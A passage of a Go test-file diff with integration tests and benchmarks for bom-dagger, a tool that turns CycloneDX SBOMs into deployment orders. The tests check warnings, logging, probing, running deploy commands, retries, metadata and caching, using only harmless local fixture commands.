+		t.Error("Expected error for SPDX input")
+	}
+	if !strings.Contains(stderr, "spdx-json input is not supported yet") {
+		t.Errorf("Expected detected format in error, got: %s", stderr)
+	}
+
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--format", "cyclonedx-json"); err != nil {
+		t.Errorf("Unexpected error with explicit format: %v\nStderr: %s", err, stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--format", "yaml")
+	if err == nil {
+		t.Error("Expected error for unknown --format")
+	}
+	if !strings.Contains(stderr, `unknown format "yaml"`) {
+		t.Errorf("Expected unknown format error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationParseWarnings(t *testing.T) {
+	sbomPath := filepath.Join(t.TempDir(), "old-spec.json")
+	doc := `{"bomFormat": "CycloneDX", "specVersion": "1.4",
+		"components": [{"bom-ref": "a", "name": "A", "type": "library"}],
+		"services": [{"bom-ref": "s", "name": "S"}]}`
+	if err := os.WriteFile(sbomPath, []byte(doc), 0o644); err != nil {
+		t.Fatalf("Failed to write SBOM: %v", err)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"Warning: [W011_SERVICES_SPEC_VERSION]", "Warning: [W013_MISSING_VERSION]"} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("Expected %q in stderr, got: %s", want, stderr)
+		}
+	}
+	if !strings.Contains(stdout, "Deployment Order") {
+		t.Errorf("Expected deployment order despite warnings, got: %s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--quiet")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stderr != "" {
+		t.Errorf("Expected no warnings with --quiet, got: %s", stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--strict")
+	if err == nil {
+		t.Error("Expected --strict to fail on parse warnings")
+	}
+	if !strings.Contains(stderr, "SBOM has 2 parse warnings") {
+		t.Errorf("Expected strict error, got: %s", stderr)
+	}
+
+	// The warnings that fail the run are shown even with --quiet
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--quiet", "--strict")
+	if err == nil {
+		t.Error("Expected --strict to fail on parse warnings")
+	}
+	for _, want := range []string{"Error: [W011_SERVICES_SPEC_VERSION]", "Error: [W013_MISSING_VERSION]", "SBOM has 2 parse warnings"} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("Expected %q with --quiet --strict, got: %s", want, stderr)
+		}
+	}
+
+	cleanPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+	if _, stderr, err := runBomDagger(t, "-i", cleanPath, "--strict"); err != nil {
+		t.Errorf("Expected clean SBOM to pass --strict: %v\nStderr: %s", err, stderr)
+	}
+}
+
+func TestIntegrationWarningCodes(t *testing.T) {
+	conflictPath := filepath.Join("..", "..", "testdata", "sboms", "version-conflict-1.6.json")
+	missingPath := filepath.Join("..", "..", "testdata", "sboms", "missing-ref-1.6.json")
+
+	_, stderr, err := runBomDagger(t, "-i", missingPath, "--log-format", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stderr, `"code":"W001_DANGLING_REF"`) {
+		t.Errorf("Expected the code in the JSON line, got: %s", stderr)
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", missingPath, "--suppress", "W001")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stderr != "" || !strings.Contains(stdout, "Deployment Order") {
+		t.Errorf("Expected the order without the suppressed warning, got stdout: %s\nstderr: %s", stdout, stderr)
+	}
+
+	// Reported codes do not fail the run unless --fail-on names them
+	if _, stderr, err := runBomDagger(t, "-i", conflictPath, "--fail-on", "W001,W003"); err != nil {
+		t.Errorf("Expected no failure without W004 in --fail-on: %v\nStderr: %s", err, stderr)
+	}
+	_, stderr, err = runBomDagger(t, "-i", conflictPath, "--fail-on", "w004")
+	if err == nil {
+		t.Error("Expected --fail-on W004 to fail on a version conflict")
+	}
+	if !strings.Contains(stderr, "2 warnings with --fail-on codes: W004_VERSION_CONFLICT") {
+		t.Errorf("Expected the fail-on error, got: %s", stderr)
+	}
+	// An acknowledged code never fails
+	if _, stderr, err := runBomDagger(t, "-i", conflictPath, "--fail-on", "W004", "--suppress", "W004"); err != nil || stderr != "" {
+		t.Errorf("Expected --suppress to win over --fail-on: %v\nStderr: %s", err, stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", conflictPath, "--suppress", "W999")
+	if err == nil || !strings.Contains(stderr, `invalid --suppress: unknown warning code "W999"`) {
+		t.Errorf("Expected an unknown code error, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationLogLevels(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "duplicate-deps-1.6.json")
+
+	_, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stderr, "Warning: [W002_DUPLICATE_DEPENDENCY] merged 3 dependency entries for app") || strings.Contains(stderr, "Info:") {
+		t.Errorf("Expected warnings but no progress by default, got: %s", stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--quiet")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stderr != "" {
+		t.Errorf("Expected --quiet to suppress warnings, got: %s", stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--verbose")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"Info: parsed 5 components and 0 services", "Info: built 5 edges", "Info: detected 3 roots", "Warning: [W002_DUPLICATE_DEPENDENCY] merged"} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("Expected %q with --verbose, got: %s", want, stderr)
+		}
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", "missing.json", "--log-format", "json")
+	if err == nil {
+		t.Error("Expected error for missing input")
+	}
+	var line struct {
+		Level string `json:"level"`
+		Msg   string `json:"msg"`
+	}
+	if err := json.Unmarshal([]byte(stderr), &line); err != nil {
+		t.Fatalf("Expected a JSON log line, got %q: %v", stderr, err)
+	}
+	if line.Level != "error" || !strings.Contains(line.Msg, "parsing SBOM") {
+		t.Errorf("Unexpected log line: %+v", line)
+	}
+
+	if _, _, err := runBomDagger(t, "-i", sbomPath, "--quiet", "--verbose"); err == nil {
+		t.Error("Expected error combining --quiet and --verbose")
+	}
+}
+
+func TestIntegrationBackstage(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "backstage")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != readGolden(t, "backstage-microservices.yaml") {
+		t.Errorf("Backstage output does not match golden file\nGot:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "backstage", "--backstage-service-kind", "api")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "kind: API") || !strings.Contains(stdout, "consumesApis:") {
+		t.Errorf("Expected API entities and consumesApis relations, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "backstage", "--backstage-service-kind", "system")
+	if err == nil {
+		t.Error("Expected error for unsupported service kind")
+	}
+	if !strings.Contains(stderr, "unsupported Backstage service kind") {
+		t.Errorf("Expected service kind error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationProbe(t *testing.T) {
+	healthy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
+	defer healthy.Close()
+	unhealthy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusInternalServerError)
+	}))
+	defer unhealthy.Close()
+
+	sbomPath := filepath.Join(t.TempDir(), "sbom.json")
+	sbomJSON := fmt.Sprintf(`{
+		"bomFormat": "CycloneDX",
+		"specVersion": "1.6",
+		"version": 1,
+		"components": [],
+		"services": [
+			{"bom-ref": "db", "name": "Database", "endpoints": [%q]},
+			{"bom-ref": "api", "name": "API", "endpoints": [%q]}
+		],
+		"dependencies": [{"ref": "api", "dependsOn": ["db"]}]
+	}`, healthy.URL, unhealthy.URL)
+	if err := os.WriteFile(sbomPath, []byte(sbomJSON), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--probe", "--timeout", "2s")
+	if err != nil {
+		t.Fatalf("Probe failures must not fail the run by default: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"Step 1:", "[OK] Database (ref: db)", "Step 2:", "[FAIL] API (ref: api)", "1 of 2 endpoints healthy"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Probe output missing %q\nGot: %s", want, stdout)
+		}
+	}
+
+	_, _, err = runBomDagger(t, "-i", sbomPath, "--probe", "--fail-on-probe")
+	if err == nil {
+		t.Error("Expected non-zero exit with --fail-on-probe")
+	}
+}
+
+func TestIntegrationExecInterrupted(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("needs SIGTERM and sh")
+	}
+	dir := t.TempDir()
+
+	// The deploy command records that it started and that it was asked to stop
+	started, stopped := filepath.Join(dir, "started"), filepath.Join(dir, "stopped")
+	command := fmt.Sprintf("trap 'touch %s; kill $!; exit 1' TERM; touch %s; sleep 30 & wait", stopped, started)
+	sbomPath := filepath.Join(dir, "sbom.json")
+	sbomJSON := fmt.Sprintf(`{
+		"bomFormat": "CycloneDX",
+		"specVersion": "1.6",
+		"version": 1,
+		"components": [
+			{"bom-ref": "db", "name": "Database", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": %q}
+			]}
+		]
+	}`, command)
+	if err := os.WriteFile(sbomPath, []byte(sbomJSON), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	cmd := exec.Command(binary, "-i", sbomPath, "--exec")
+	var stderr bytes.Buffer
+	cmd.Stderr = &stderr
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		if _, err := os.Stat(started); err == nil {
+			break
+		}
+		if time.Now().After(deadline) {
+			cmd.Process.Kill()
+			t.Fatal("The deploy command never started")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
+		t.Fatal(err)
+	}
+
+	err := cmd.Wait()
+	var exitErr *exec.ExitError
+	if !errors.As(err, &exitErr) || exitErr.ExitCode() != 143 {
+		t.Errorf("Expected exit code 143, got %v", err)
+	}
+	if !strings.Contains(stderr.String(), "interrupted during running commands") {
+		t.Errorf("Expected the interrupted phase on stderr, got: %s", stderr.String())
+	}
+	if _, err := os.Stat(stopped); err != nil {
+		t.Error("Expected the deploy command to receive SIGTERM")
+	}
+}
+
+func TestIntegrationExec(t *testing.T) {
+	dir := t.TempDir()
+	logPath := filepath.Join(dir, "exec.log")
+	sbomPath := filepath.Join(dir, "sbom.json")
+	command := func(name string) string {
+		return fmt.Sprintf("echo %s >> '%s'", name, logPath)
+	}
+	sbomJSON := fmt.Sprintf(`{
+		"bomFormat": "CycloneDX",
+		"specVersion": "1.6",
+		"version": 1,
+		"components": [
+			{"bom-ref": "db", "name": "Database", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": %q},
+				{"name": "bom-dagger:teardown-command", "value": %q}
+			]},
+			{"bom-ref": "api", "name": "API", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": "exit 3"},
+				{"name": "bom-dagger:teardown-command", "value": %q}
+			]},
+			{"bom-ref": "web", "name": "Web", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": %q}
+			]},
+			{"bom-ref": "docs", "name": "Docs"}
+		],
+		"dependencies": [
+			{"ref": "api", "dependsOn": ["db"]},
+			{"ref": "web", "dependsOn": ["api"]}
+		]
+	}`, command("deploy-db"), command("teardown-db"), command("teardown-api"), command("deploy-web"))
+	if err := os.WriteFile(sbomPath, []byte(sbomJSON), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--exec")
+	if err == nil {
+		t.Fatalf("Expected the failing deploy command to fail the run\nStdout: %s", stdout)
+	}
+	if got := string(mustReadFile(t, logPath)); got != "deploy-db\n" {
+		t.Errorf("Expected only the database to deploy before the failure, got %q", got)
+	}
+	for _, want := range []string{"=== Group 1 ===", "Deploying Database (ref: db)", "Group 2 failed"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Exec output missing %q\nGot: %s", want, stdout)
+		}
+	}
+	if strings.Contains(stdout, "=== Group 3 ===") {
+		t.Errorf("Expected later groups not to run after a failure, got:\n%s", stdout)
+	}
+	if !strings.Contains(stderr, "Error: 1 component failed: api") {
+		t.Errorf("Expected the failed component on stderr, got: %s", stderr)
+	}
+	if !strings.Contains(stdout, "=== Exec Summary ===\nCompleted: 2 (db, docs)\nFailed: 1 (api)\nNot started: 1 (web)\n") {
+		t.Errorf("Expected a summary of the run, got:\n%s", stdout)
+	}
+
+	os.Remove(logPath)
+	_, _, err = runBomDagger(t, "-i", sbomPath, "--exec", "--continue-on-error", "--max-parallel", "1")
+	if err == nil {
+		t.Fatal("Expected --continue-on-error to still report the failure")
+	}
+	if got := string(mustReadFile(t, logPath)); got != "deploy-db\ndeploy-web\n" {
+		t.Errorf("Expected web to deploy despite the failure, got %q", got)
+	}
+
+	os.Remove(logPath)
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--exec", "--reverse")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if got := string(mustReadFile(t, logPath)); got != "teardown-api\nteardown-db\n" {
+		t.Errorf("Expected teardown from the top of the graph down, got %q", got)
+	}
+}
+
+func TestIntegrationExecRetries(t *testing.T) {
+	dir := t.TempDir()
+	counter := filepath.Join(dir, "attempts")
+	healthy := filepath.Join(dir, "healthy")
+	sbomPath := filepath.Join(dir, "sbom.json")
+	// db fails its first attempt and becomes healthy once api checks it;
+	// api's health command never passes
+	flaky := fmt.Sprintf(`n=$(cat '%[1]s' 2>/dev/null || echo 0); echo $((n+1)) > '%[1]s'; [ $n -ge 1 ] && touch '%[2]s'`, counter, healthy)
+	sbomJSON := fmt.Sprintf(`{
+		"bomFormat": "CycloneDX",
+		"specVersion": "1.6",
+		"version": 1,
+		"components": [
+			{"bom-ref": "db", "name": "Database", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": %q},
+				{"name": "bom-dagger:health-command", "value": %q},
+				{"name": "bom-dagger:retries", "value": "1"}
+			]},
+			{"bom-ref": "api", "name": "API", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": "true"},
+				{"name": "bom-dagger:health-command", "value": "echo not ready; false"}
+			]},
+			{"bom-ref": "web", "name": "Web", "properties": [
+				{"name": "bom-dagger:deploy-command", "value": "true"}
+			]}
+		],
+		"dependencies": [
+			{"ref": "api", "dependsOn": ["db"]},
+			{"ref": "web", "dependsOn": ["api"]}
+		]
+	}`, flaky, fmt.Sprintf("test -f '%s'", healthy))
+	if err := os.WriteFile(sbomPath, []byte(sbomJSON), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--exec", "--retry-delay", "10ms", "--health-timeout", "100ms")
+	if err == nil {
+		t.Fatalf("Expected the failing health check to fail the run\nStdout: %s", stdout)
+	}
+	for _, want := range []string{
+		"db failed (attempt 1 of 2): exit status 1",
+		"api failed: health check did not pass within 100ms",
+		"health check output:\nnot ready",
+	} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("Expected %q on stderr, got: %s", want, stderr)
+		}
+	}
+	if !strings.Contains(stdout, "Completed: 1 (db)\nFailed: 1 (api)\nNot started: 1 (web)\n") {
+		t.Errorf("Expected a summary of the run, got:\n%s", stdout)
+	}
+
+	_, stderr, _ = runBomDagger(t, "-i", sbomPath, "--exec", "--retries", "-1")
+	if !strings.Contains(stderr, "--retries must not be negative") {
+		t.Errorf("Expected negative --retries to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationInteractive(t *testing.T) {
+	dir := t.TempDir()
+	sessionLog := filepath.Join(dir, "session.log")
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	// The tests have no terminal, so only --assume-yes gets past the check
+	_, stderr, err := runBomDagger(t, "-i", sbomPath, "--interactive")
+	if err == nil || !strings.Contains(stderr, "standard input is not one; use --assume-yes") {
+		t.Errorf("Expected --interactive to need a terminal, got %v: %s", err, stderr)
+	}
+
+	want, _, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatal(err)
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g", "--interactive", "--assume-yes", "--session-log", sessionLog)
+	if err != nil {
+		t.Fatalf("--interactive --assume-yes failed: %v\n%s", err, stderr)
+	}
+	if stdout != want {
+		t.Errorf("Expected the groups unchanged, got:\n%s", stdout)
+	}
+	if strings.Contains(stderr, "Press Enter") {
+		t.Errorf("Expected no prompts with --assume-yes, got: %s", stderr)
+	}
+
+	metaPath := filepath.Join(dir, "meta.yaml")
+	if err := os.WriteFile(metaPath, []byte("db:\n  bom-dagger:deploy-command: \"true\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--metadata", metaPath, "--exec", "--interactive", "--assume-yes", "--session-log", sessionLog); err != nil {
+		t.Fatalf("--exec --interactive --assume-yes failed: %v\n%s", err, stderr)
+	}
+
+	// Both runs append to the log, a line per answer
+	log := string(mustReadFile(t, sessionLog))
+	timestamped := regexp.MustCompile(`(?m)^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ group (\d): (.*)$`)
+	var events []string
+	for _, m := range timestamped.FindAllStringSubmatch(log, -1) {
+		events = append(events, m[1]+" "+m[2])
+	}
+	wantEvents := []string{
+		"1 shown", "2 shown (assumed)", "3 shown (assumed)",
+		"1 yes (assumed)", "2 yes (assumed)", "3 yes (assumed)",
+	}
+	if !reflect.DeepEqual(events, wantEvents) {
+		t.Errorf("Expected session log events %q, got:\n%s", wantEvents, log)
+	}
+
+	for _, tc := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"-o", "dot", "--interactive", "--assume-yes"}, "--interactive only applies to the order and groups output"},
+		{[]string{"-o", "order", "-f", filepath.Join(dir, "order.txt"), "--interactive", "--assume-yes"}, "does not apply to --output-file"},
+		{[]string{"--session-log", sessionLog}, "require --interactive"},
+		{[]string{"--assume-yes"}, "require --interactive"},
+	} {
+		_, stderr, err := runBomDagger(t, append([]string{"-i", sbomPath}, tc.args...)...)
+		if err == nil || !strings.Contains(stderr, tc.want) {
+			t.Errorf("%v: expected %q, got %v: %s", tc.args, tc.want, err, stderr)
+		}
+	}
+}
+
+func TestIntegrationMetadata(t *testing.T) {
+	dir := t.TempDir()
+	logPath := filepath.Join(dir, "deploy.log")
+	metaPath := filepath.Join(dir, "meta.yaml")
+	meta := fmt.Sprintf(`# deploy commands kept outside the SBOM
+db:
+  bom-dagger:deploy-command: "echo deploy-db >> '%s'"
+Application:
+  team: payments
+unknown-ref:
+  team: nobody
+`, logPath)
+	if err := os.WriteFile(metaPath, []byte(meta), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	_, stderr, err := runBomDagger(t, "-i", sbomPath, "--metadata", metaPath, "--exec")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if got := string(mustReadFile(t, logPath)); got != "deploy-db\n" {
+		t.Errorf("Expected the deploy command from the metadata file to run, got %q", got)
+	}
+	if !strings.Contains(stderr, `Warning: [W008_UNMATCHED_METADATA] metadata entry "unknown-ref" matches no bom-ref, purl or name`) {
+		t.Errorf("Expected a warning for the unmatched entry, got: %s", stderr)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--metadata", metaPath, "-o", "tree", "--label-template", `{{.Name}}{{with .Prop "team"}} [{{.}}]{{end}}`)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Application [payments]") {
+		t.Errorf("Expected the name-keyed property in the label, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationInvalidInput(t *testing.T) {
+	tests := []struct {
+		name    string
+		args    []string
+		wantErr bool
+		errMsg  string
+	}{
+		{
+			name:    "missing input file",
+			args:    []string{},
+			wantErr: true,
+		},
+		{
+			name:    "non-existent file",
+			args:    []string{"-i", "/non/existent/file.json"},
+			wantErr: true,
+			errMsg:  "Error parsing SBOM",
+		},
+		{
+			name:    "help flag",
+			args:    []string{"-h"},
+			wantErr: false,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, stderr, err := runBomDagger(t, tt.args...)
+
+			if tt.wantErr {
+				if err == nil {
+					t.Error("Expected error but got none")
+				}
+				if tt.errMsg != "" && !strings.Contains(stderr, tt.errMsg) {
+					t.Errorf("Expected error message containing '%s', got: %s", tt.errMsg, stderr)
+				}
+			}
+		})
+	}
+}
+
+func TestIntegrationExampleSBOM(t *testing.T) {
+	// Test with the original example SBOM (updated to 1.6)
+	sbomPath := filepath.Join("..", "..", "example-sbom.json")
+
+	// Check if file exists
+	if _, err := os.Stat(sbomPath); os.IsNotExist(err) {
+		t.Skip("example-sbom.json not found")
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Failed to process example SBOM: %v\nStderr: %s", err, stderr)
+	}
+
+	// Verify the output contains expected components
+	expectedComponents := []string{
+		"React Frontend",
+		"API Gateway",
+		"PostgreSQL Database",
+		"Redis Cache",
+		"RabbitMQ",
+		"Nginx Load Balancer",
+	}
+
+	for _, comp := range expectedComponents {
+		if !strings.Contains(stdout, comp) {
+			t.Errorf("Component '%s' not found in output", comp)
+		}
+	}
+}
+
+// BenchmarkProcessSimpleSBOM includes process startup; compare
+// BenchmarkRunSimpleSBOM, the same run in-process
+func BenchmarkProcessSimpleSBOM(b *testing.B) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+
+	for i := 0; i < b.N; i++ {
+		cmd := exec.Command(binary, "-i", sbomPath)
+		_ = cmd.Run()
+	}
+}
+
+func BenchmarkProcessMicroservicesSBOM(b *testing.B) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	for i := 0; i < b.N; i++ {
+		cmd := exec.Command(binary, "-i", sbomPath)
+		_ = cmd.Run()
+	}
+}
+
+func BenchmarkRunSimpleSBOM(b *testing.B) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+
+	for i := 0; i < b.N; i++ {
+		run([]string{"-i", sbomPath}, strings.NewReader(""), io.Discard, io.Discard)
+	}
+}
+
+func TestIntegrationReachableOnly(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "reachable-noise-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--reachable-only")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Unreachable Components: 4") {
+		t.Errorf("Expected the dropped count in stats\nGot: %s", stdout)
+	}
+	want := "Step 1:\n  - db-driver (ref: db-driver)\n  - logging (ref: logging)\n\nStep 2:\n  - web-framework (ref: web-framework)\n\nStep 3:\n  - Storefront (ref: app)\n"
+	if !strings.HasSuffix(stdout, want) {
+		t.Errorf("Expected only the components the app reaches\nGot: %s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--reachable-only", "--target", "migration-tool")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.HasSuffix(stdout, "Step 1:\n  - yaml-parser (ref: yaml-parser)\n\nStep 2:\n  - migration-tool (ref: migration-tool)\n") {
+		t.Errorf("Expected the plan of the --target\nGot: %s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--reachable-only", "--target", "missing")
+	if err == nil || !strings.Contains(stderr, "unknown node: missing") {
+		t.Errorf("Expected an unknown --target to fail, got err=%v stderr=%s", err, stderr)
+	}
+}
+
+func TestIntegrationCacheDir(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "missing-ref-1.6.json")
+	dir := t.TempDir()
+
+	want, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+
+	for i, wantLoaded := range []bool{false, true} {
+		stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--cache-dir", dir, "--verbose")
+		if err != nil {
+			t.Fatalf("Run %d failed: %v\nStderr: %s", i+1, err, stderr)
+		}
+		if stdout != want {
+			t.Errorf("Run %d: output differs from an uncached run:\n%s\nwant\n%s", i+1, stdout, want)
+		}
+		if loaded := strings.Contains(stderr, "loaded the graph from"); loaded != wantLoaded {
+			t.Errorf("Run %d: expected loaded=%t\nStderr: %s", i+1, wantLoaded, stderr)
+		}
+		// Warnings are replayed from the cache
+		if !strings.Contains(stderr, "skipped unknown ref managed-postgres") {
+			t.Errorf("Run %d: expected the build warning\nStderr: %s", i+1, stderr)
+		}
+	}
+
+	// Options that shape the graph get an entry of their own
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--cache-dir", dir, "--runtime-only", "--verbose"); err != nil || strings.Contains(stderr, "loaded the graph from") {
+		t.Errorf("Expected --runtime-only to miss the cache, got err=%v\nStderr: %s", err, stderr)
+	}
+	entries, err := filepath.Glob(filepath.Join(dir, "*.gob"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(entries) != 2 {
+		t.Fatalf("Expected 2 cache entries, got %v", entries)
+	}
+
+	// A corrupted entry falls back to parsing and is replaced
+	for _, entry := range entries {
+		if err := os.WriteFile(entry, []byte("corrupted"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--cache-dir", dir)
+	if err != nil {
+		t.Fatalf("Command failed on a corrupted cache: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != want {
+		t.Errorf("Output differs after a corrupted cache:\n%s\nwant\n%s", stdout, want)
+	}
+	if _, stderr, _ := runBomDagger(t, "-i", sbomPath, "--cache-dir", dir, "--verbose"); !strings.Contains(stderr, "loaded the graph from") {
+		t.Errorf("Expected the corrupted entry to be replaced\nStderr: %s", stderr)
+	}
+}
+
+func TestIntegrationEnv(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "envs-1.6.json")
+
+	var plans struct {
+		Steps []struct {
+			Step       int `json:"step"`
+			Components []struct {
+				BOMRef string `json:"ref"`
+			} `json:"components"`
+		} `json:"steps"`
+		Provenance struct {
+			Env string `json:"env"`
+		} `json:"provenance"`
+	}
+	steps := make(map[string]map[string]int)
+	for _, env := range []string{"staging", "prod"} {
+		stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--env", env, "-o", "json")
+		if err != nil {
+			t.Fatalf("Command failed for %s: %v\nStderr: %s", env, err, stderr)
+		}
+		if err := json.Unmarshal([]byte(stdout), &plans); err != nil {
+			t.Fatalf("Invalid JSON for %s: %v", env, err)
+		}
+		if plans.Provenance.Env != env {
+			t.Errorf("Expected env %q in the provenance, got %q", env, plans.Provenance.Env)
+		}
+		steps[env] = make(map[string]int)
+		for _, step := range plans.Steps {
+			for _, component := range step.Components {
+				steps[env][component.BOMRef] = step.Step
+			}
+		}
+	}
+
+	if _, ok := steps["staging"]["cdn"]; ok {
+		t.Error("Expected the CDN to be left out of staging")
+	}
+	if _, ok := steps["prod"]["smoke-tests"]; ok {
+		t.Error("Expected the smoke tests to be left out of prod")
+	}
+	if steps["staging"]["web"] >= steps["prod"]["web"] {
+		t.Errorf("Expected staging to reach the frontend sooner, got step %d vs %d", steps["staging"]["web"], steps["prod"]["web"])
+	}
+	// Shared components keep their relative order
+	for _, env := range []string{"staging", "prod"} {
+		if !(steps[env]["db"] < steps[env]["api"] && steps[env]["api"] < steps[env]["web"]) {
+			t.Errorf("%s: expected db < api < web, got %v", env, steps[env])
+		}
+	}
+}
+
+func TestIntegrationMetadataComponentRef(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "malformed", "metadata-no-ref-1.6.json")
+
+	_, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Expected lenient parsing to succeed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stderr, `[W017_METADATA_COMPONENT_REF] dependencies refer to "checkout@2.1.0"`) ||
+		!strings.Contains(stderr, `set metadata.component.bom-ref to "checkout@2.1.0"`) {
+		t.Errorf("Expected a warning suggesting the fix, got: %s", stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--strict")
+	if err == nil {
+		t.Fatal("Expected --strict to reject the document")
+	}
